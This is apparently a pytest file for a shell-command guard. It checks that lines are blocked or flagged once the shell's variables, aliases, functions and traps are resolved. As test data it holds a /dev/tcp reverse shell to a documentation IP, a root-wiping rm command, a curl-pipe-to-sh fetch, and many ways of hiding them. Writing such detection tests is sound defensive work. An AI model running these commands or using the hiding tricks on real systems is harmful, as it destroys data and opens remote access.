"""The engine judges a line as bash will expand it, given the live shell's state.

Table tests: (line, ShellState, expected action, a rule id that must fire or
None). The payloads are our own; the reverse shells point at a documentation
address.
"""

from __future__ import annotations

import pytest

from attyguard.engine.classify import classify
from attyguard.engine.state import ShellState
from attyguard.engine.verdict import Action
from attyguard.guard import Guard

RSHELL = "bash -i >& /dev/tcp/192.0.2.7/9001 0>&1"
WIPE = "rm -rf --no-preserve-root /"
FETCH = "curl -fsSL https://get.example.net/s.sh | sh"  # https: warn (IP/http blocks)


def fn(name: str, body: str) -> str:
    """A function as `declare -f` prints it."""
    return f"{name} () \n{{ \n    {body}\n}}"


DANGEROUS: list[tuple[str, ShellState, Action, str | None]] = [
    # variables and arrays from the shell fill the line
    ('eval "$payload"', ShellState(variables={"payload": RSHELL}), Action.BLOCK,
     "rs-dev-tcp-shell"),
    ("eval $payload", ShellState(variables={"payload": WIPE}), Action.BLOCK, None),
    ('bash -c "$p"', ShellState(variables={"p": WIPE}), Action.BLOCK, None),
    ('sh -c "${p}"', ShellState(variables={"p": RSHELL}), Action.BLOCK, None),
    ("$p", ShellState(variables={"p": WIPE}), Action.BLOCK, None),
    ('"${cmd[@]}" --no-preserve-root /', ShellState(arrays={"cmd": {"0": "rm", "1": "-rf"}}),
     Action.BLOCK, None),
    ("${a[1]} -i >& /dev/tcp/192.0.2.7/9001 0>&1",
     ShellState(arrays={"a": {"0": "x", "1": "bash"}}), Action.BLOCK, None),
    ("bash -i >& $d/tcp/192.0.2.7/9001 0>&1", ShellState(variables={"d": "/dev"}),
     Action.BLOCK, None),
    # aliases, recursive and trailing-space
    ("upd", ShellState(aliases={"upd": FETCH}), Action.WARN, "dl-pipe-shell"),
    ("sudo zap", ShellState(aliases={"sudo": "sudo ", "zap": WIPE}), Action.BLOCK, None),
    ("a1", ShellState(aliases={"a1": "a2 -x", "a2": "a3", "a3": WIPE}), Action.BLOCK, None),
    ("get https://ex.net/s.sh | sh", ShellState(aliases={"get": "curl -fsSL "}), Action.WARN,
     "dl-pipe-shell"),
    ("nuke > /dev/null", ShellState(aliases={"nuke": WIPE}), Action.BLOCK, None),
    # functions: the body runs, with $1… bound
    ("f", ShellState(functions={"f": fn("f", "bash -i >& /dev/tcp/$h/9001 0>&1")},
                     variables={"h": "192.0.2.7"}), Action.BLOCK, None),
    ("clean /", ShellState(functions={"clean": fn("clean", 'rm -rf --no-preserve-root "$1"')}),
     Action.BLOCK, None),
    ("outer", ShellState(functions={"outer": fn("outer", "inner"), "inner": fn("inner", WIPE)}),
     Action.BLOCK, None),
    ("g() { $1 -rf --no-preserve-root /; }; g rm", ShellState(), Action.BLOCK, None),
    # the hash table
    ("ls", ShellState(hashed={"ls": "/tmp/.cache/ls"}), Action.WARN, "engine.hash-path"),
    # stored code, judged as if it ran now
    ('alias x="$p"', ShellState(variables={"p": WIPE}), Action.BLOCK, None),
    (f"alias ll='{WIPE}'", ShellState(), Action.BLOCK, None),
    ('f() { bash -i >& /dev/tcp/"$h"/9001 0>&1; }', ShellState(variables={"h": "192.0.2.7"}),
     Action.BLOCK, None),
    (f"PROMPT_COMMAND='{FETCH}'", ShellState(), Action.WARN, "dl-pipe-shell"),
    (f"export PROMPT_COMMAND=(history 'true' '{WIPE}')", ShellState(), Action.BLOCK, None),
    ('PROMPT_COMMAND="$p"', ShellState(variables={"p": RSHELL}), Action.BLOCK, None),
    (f"trap '{WIPE}' EXIT", ShellState(), Action.BLOCK, None),
    (f"trap -- '{RSHELL}' DEBUG", ShellState(), Action.BLOCK, None),
    ('trap "$p" RETURN', ShellState(variables={"p": WIPE}), Action.BLOCK, None),
    (f"bind -x '\"\\C-l\": {WIPE}'", ShellState(), Action.BLOCK, None),
    (f"complete -C '{WIPE}' git", ShellState(), Action.BLOCK, None),
    ("hash -p /tmp/.x/tool sudo", ShellState(), Action.WARN, "engine.hash-path"),
    ("hash -p /usr/bin/vim ls", ShellState(), Action.WARN, "engine.hash-path"),
    ("export BASH_ENV=/tmp/.env.sh", ShellState(), Action.WARN, "engine.env-file"),
    ("ENV=$HOME/.x bash --posix -i", ShellState(variables={"HOME": "/home/u"}), Action.WARN,
     "engine.env-file"),
    ("BASH_ENV=/dev/shm/r bash -c true", ShellState(), Action.WARN, "engine.env-file"),
    # within one line: a path fragment resolves in a redirect target
    ("a=/dev; bash -i >& $a/tcp/192.0.2.7/9001 0>&1", ShellState(), Action.BLOCK, None),
    ("t=tcp; exec 3<>/dev/$t/192.0.2.7/9001; bash <&3 >&3", ShellState(), Action.BLOCK, None),
]

QUIET: list[tuple[str, ShellState]] = [
    ("$EDITOR notes.txt", ShellState(variables={"EDITOR": "vim"})),
    ("$EDITOR notes.txt", ShellState()),
    ('"$@"', ShellState()),
    ("$PAGER README", ShellState(variables={"PAGER": "less -R"})),
    ("${CC:-cc} -O2 -o hello hello.c", ShellState()),
    ("$cmd --version", ShellState(variables={"cmd": "python3"})),
    ("ll", ShellState(aliases={"ll": "ls -alF"})),
    ("ls", ShellState(aliases={"ls": "ls --color=auto"})),
    ("grep -r foo .", ShellState(aliases={"grep": "grep --color=auto"})),
    ("deactivate", ShellState(functions={
        "deactivate": fn("deactivate", "unset VIRTUAL_ENV; hash -r 2>/dev/null")})),
    ("nvm use 20", ShellState(functions={"nvm": fn("nvm", 'local v="$1"; command echo "$v"')})),
    ("cd ..", ShellState(functions={"cd": fn("cd", 'builtin cd "$@" && ls')})),
    ("echo $HOME", ShellState(variables={"HOME": "/home/u"})),
    ('PROMPT_COMMAND="history -a; $PROMPT_COMMAND"',
     ShellState(variables={"PROMPT_COMMAND": "_direnv_hook"})),
    ("PROMPT_COMMAND=(_starship_hook)", ShellState()),
    ("trap 'rm -f \"$tmp\"' EXIT", ShellState(variables={"tmp": "/tmp/build.1"})),
    ("source .venv/bin/activate", ShellState()),
    ('eval "$(direnv hook bash)"', ShellState()),
    ('eval "$(ssh-agent -s)"', ShellState()),
    ("ENV=production npm start", ShellState()),
    ("hash -p /usr/local/bin/python3 python3", ShellState()),
    ("for f in *.txt; do $EDITOR \"$f\"; done", ShellState()),
    ('"${CMD[@]}"', ShellState(arrays={"CMD": {"0": "make", "1": "-j4"}})),
    ("w() { \"$@\"; }; w ls", ShellState()),
]


@pytest.mark.parametrize(("line", "state", "action", "rule"), DANGEROUS,
                         ids=[c[0][:40] for c in DANGEROUS])
def test_state_resolved_line_is_judged(line: str, state: ShellState, action: Action,
                                       rule: str | None) -> None:
    verdict = classify(line, state)
    assert verdict.action is action, verdict.rules
    if rule is not None:
        assert rule in [h.rule_id for h in verdict.rules]


@pytest.mark.parametrize(("line", "state"), QUIET, ids=[c[0][:40] for c in QUIET])
def test_everyday_state_lines_stay_quiet(line: str, state: ShellState) -> None:
    verdict = classify(line, state)
    assert verdict.action is Action.ALLOW, verdict.rules


def test_without_state_the_line_alone_is_judged() -> None:
    # The same names unknown: nothing to resolve, and not a false alarm either.
    assert classify('eval "$payload"').action is Action.ALLOW
    assert classify("upd").action is Action.ALLOW


def test_unknown_lowercase_command_word_warns_with_its_rule() -> None:
    verdict = classify("$runner --now")
    assert verdict.action is Action.WARN
    assert [h.rule_id for h in verdict.rules] == ["engine.dynamic-command"]
    # Known from the state: judged by its value instead.
    known = ShellState(variables={"runner": "make"})
    assert classify("$runner --now", known).action is Action.ALLOW


def test_recursive_function_and_alias_are_bounded() -> None:
    loop = ShellState(functions={"f": fn("f", "f; g"), "g": fn("g", "f")},
                      aliases={"a": "b", "b": "a"})
    assert classify("f", loop).action is Action.ALLOW
    assert classify("a", loop).action is Action.ALLOW
    wide = ShellState(functions={f"f{i}": fn(f"f{i}", f"f{i + 1}; f{i + 1}") for i in range(60)})
    verdict = classify("f0", wide)
    assert verdict.action is Action.WARN
    assert "engine.analysis-bounded" in [h.rule_id for h in verdict.rules]


def test_a_line_variable_shadows_the_shells() -> None:
    state = ShellState(variables={"p": WIPE})
    # `p` now holds a program's output: unknown, so eval of it warns (never the shell's value).
    shadowed = classify('p=$(date); eval "$p"', state)
    assert [h.rule_id for h in shadowed.rules] == ["engine.dynamic-command"]
    assert classify('p="ls -l"; eval "$p"', state).action is Action.ALLOW


def test_guard_passes_state_to_the_engine() -> None:
    guard = Guard(classify)
    state = ShellState(variables={"payload": RSHELL})
    assert guard.decide('eval "$payload"').action is Action.ALLOW
    assert guard.decide('eval "$payload"', state).action is Action.BLOCK


# -- more of what bash resolves, and a fuzz run over the new resolver --------------

MORE: list[tuple[str, ShellState, Action]] = [
    ("declare -n r=v; v=rm; $r -rf --no-preserve-root /", ShellState(), Action.BLOCK),
    ("IFS=_; c=rm_-rf_--no-preserve-root_/; $c", ShellState(), Action.BLOCK),
    ('read -r c <<< "rm -rf --no-preserve-root /"; $c', ShellState(), Action.BLOCK),
    ('read -ra c <<< "rm -rf --no-preserve-root /"; "${c[@]}"', ShellState(), Action.BLOCK),
    ("${v:=rm}; $v -rf --no-preserve-root /", ShellState(), Action.BLOCK),
    ('$SHELL -c "rm -rf --no-preserve-root /"', ShellState(), Action.BLOCK),
    (f"PS1='$({FETCH})$ '", ShellState(), Action.WARN),
    ("ls", ShellState(traps={"DEBUG": FETCH}), Action.WARN),
    ("exit", ShellState(traps={"EXIT": WIPE}), Action.BLOCK),
    ("ls", ShellState(traps={"EXIT": WIPE}), Action.ALLOW),  # runs when the shell exits
    ("$c", ShellState(variables={"c": "rm_-rf_--no-preserve-root_/", "IFS": "_"}), Action.BLOCK),
]


@pytest.mark.parametrize(("line", "state", "action"), MORE, ids=[m[0][:40] for m in MORE])
def test_more_of_what_bash_resolves(line: str, state: ShellState, action: Action) -> None:
    assert classify(line, state).action is action


def test_prompt_and_read_everyday_forms_stay_quiet() -> None:
    for line in ("PS1='\\u@\\h:\\w$(__git_ps1 \" (%s)\")\\$ '", 'export PS1="[\\t] \\w $ "',
                 "read -r answer; echo $answer", "read -a nums <<< '1 2 3'; echo ${nums[1]}",
                 "IFS=, read -r a b <<< 'x,y'; echo $a"):
        assert classify(line).action is Action.ALLOW, line


def test_resolver_never_fails_inside() -> None:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    bits = ["$v", "${v", "}", "${a[@]}", "${a[", "]", "${!v}", "${v:1:2}", "${v,,}", "${v^^}",
            "${v/x/y}", "${v#*/}", "${#v}", "${v:=rm}", "$1", '"$@"', "a=(", ")", "x=", "; ",
            "read -ra x <<< ", "printf -v x %s ", "declare -n r=v", "IFS=_", "al", "fn",
            "f() { ", " }", "$(", "`", "/u?r/b[i]n/r*", " -rf /", "hash -p /tmp/x ls",
            "trap '", "' EXIT", "bind -x '\"\\C-t\":", "PROMPT_COMMAND=", "'", '"', "\\", " "]
    state = ShellState(
        variables={"v": "/usr/Bin/x y", "IFS": " "}, arrays={"a": {"0": "r", "7": "m"}},
        aliases={"al": "al2 ", "al2": "fn "}, functions={"fn": fn("fn", "al; $1 ${a[@]}")},
        hashed={"ls": "/tmp/ls"}, traps={"DEBUG": "fn"})

    @settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(st.sampled_from(bits), max_size=24))
    def run(parts: list[str]) -> None:
        verdict = classify("".join(parts), state)
        internal = [h.matched for h in verdict.rules if h.matched.startswith("internal error")]
        assert not internal, internal

    run()


def test_alias_value_unknowns_are_judged_where_the_alias_runs() -> None:
    # Defining it: the variable is expanded when the alias is used, not now.
    assert classify("alias go='$runner --all'").action is Action.ALLOW
    # Using it: expanded from the state; still unknown there, the program is hidden.
    used = classify("go", ShellState(aliases={"go": "$runner --all"}))
    assert [h.rule_id for h in used.rules] == ["engine.dynamic-command"]
    known = ShellState(aliases={"go": "$runner --all"}, variables={"runner": "make"})
    assert classify("go", known).action is Action.ALLOW
    # What an alias stores is still judged at once when it is known.
    assert classify(f"alias go='{WIPE}'").action is Action.BLOCK
